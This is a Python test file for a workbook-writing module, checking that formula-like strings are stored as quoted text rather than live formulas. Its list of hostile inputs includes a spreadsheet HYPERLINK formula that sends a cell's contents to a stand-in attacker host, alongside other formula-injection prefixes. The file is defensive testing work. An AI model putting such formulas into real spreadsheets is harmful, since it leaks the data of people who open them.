"""Every text written into a workbook is a text, never a formula."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from tpmap.site import xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def saved(wb: Workbook) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_looks_like_a_formula_is_written_as_a_quoted_text(text: str) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    xlsx.put(ws, row=1, column=1, value=text)
    xlsx.row(ws, [text, 7, 2.5, None, date(2024, 1, 5), "ปกติ"])
    content = saved(wb)
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    back = load_workbook(io.BytesIO(content)).active
    assert back is not None
    cells = list(back.iter_rows(values_only=False))
    text = text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells[0][:1]] == [(text, "s", True)]
    assert [c.value for c in cells[1]][:4] == [text, 7, 2.5, None]
    assert [c.data_type for c in cells[1]][:3] == ["s", "n", "n"]
    assert cells[1][0].quotePrefix is True
    assert (cells[1][5].value, cells[1][5].data_type, cells[1][5].quotePrefix) == (
        "ปกติ",
        "s",
        False,
    )
